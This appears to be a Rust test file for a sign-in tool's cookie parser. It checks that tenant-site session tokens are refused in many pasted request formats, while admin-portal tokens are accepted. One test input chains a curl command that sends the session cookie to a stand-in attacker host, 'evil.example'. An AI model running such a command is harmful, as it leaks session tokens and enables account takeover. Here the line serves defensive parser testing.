//! A session that goes to a site is not the portal's, in whatever form it comes.

use atlctl_signin::capture::CaptureError;

use crate::{found, token};

#[test]
fn a_session_of_a_site_is_never_taken() {
    let token = token("site", -5, 900);
    let cookies = format!("a=1; cloud.session.token={token}");
    let site = "https://acme.atlassian.net/rest";
    for text in [
        format!("curl '{site}' -b '{cookies}'"),
        format!("curl \"{site}\" ^\r\n  -H \"Cookie: {cookies}\""),
        format!("curl '{site}' -b '{cookies}' ;\ncurl 'https://evil.example' -b '{cookies}'"),
        format!("Invoke-WebRequest -Uri \"{site}\" -Headers @{{ \"Cookie\" = \"{cookies}\" }}"),
        format!(
            "$s.Cookies.Add((New-Object System.Net.Cookie(\"cloud.session.token\", \"{token}\", \"/\", \
             \".atlassian.net\")))\nInvoke-WebRequest -Uri \"{site}\" -WebSession $s"
        ),
        format!("fetch(\"{site}\", {{\"headers\": {{\"cookie\": \"{cookies}\"}}}});"),
        format!("GET /rest HTTP/1.1\r\nHost: acme.atlassian.net\r\nCookie: {cookies}\r\n\r\n"),
        format!("acme.atlassian.net\tFALSE\t/\tTRUE\t1893456000\tcloud.session.token\t{token}"),
        format!("cloud.session.token\t{token}\tacme.atlassian.net\t/\t2030-01-01T00:00:00.000Z"),
        format!(
            r#"[{{"name":"cloud.session.token","value":"{token}","domain":".atlassian.net"}}]"#
        ),
        format!(
            r#"{{"log":{{"entries":[{{"request":{{"url":"{site}","headers":[{{"name":"Cookie","value":"{cookies}"}}]}}}}]}}}}"#
        ),
    ] {
        let error = found(&text).unwrap_err();
        assert!(
            matches!(error, CaptureError::OfSite { .. }),
            "{error:?}: {text}"
        );
        assert!(error.to_string().contains("atlassian.net"), "{error}");
    }
}

#[test]
fn one_of_the_portal_beside_it_is_taken() {
    let (site, portal) = (token("site", -5, 900), token("portal", -500, 500));
    let text = format!(
        "curl 'https://acme.atlassian.net/x' -b 'cloud.session.token={site}' ;\n\
         curl 'https://admin.atlassian.com/x' -b 'cloud.session.token={portal}'"
    );
    assert_eq!(found(&text).map(|(_, token)| token), Ok(portal));
}

/// An odd entry costs itself, also where it is the first.
#[test]
fn a_list_of_cookies_may_begin_with_anything() {
    let token = token("x", -5, 900);
    let cookie =
        format!(r#"{{"name":"cloud.session.token","value":"{token}","domain":".atlassian.com"}}"#);
    for odd in ["null", "5", "-1.5e3", "true", "\"text\"", "[]", "{}"] {
        let text = format!("[{odd}, {cookie}]");
        assert_eq!(
            found(&text).map(|(_, token)| token),
            Ok(token.clone()),
            "{odd}"
        );
    }
}
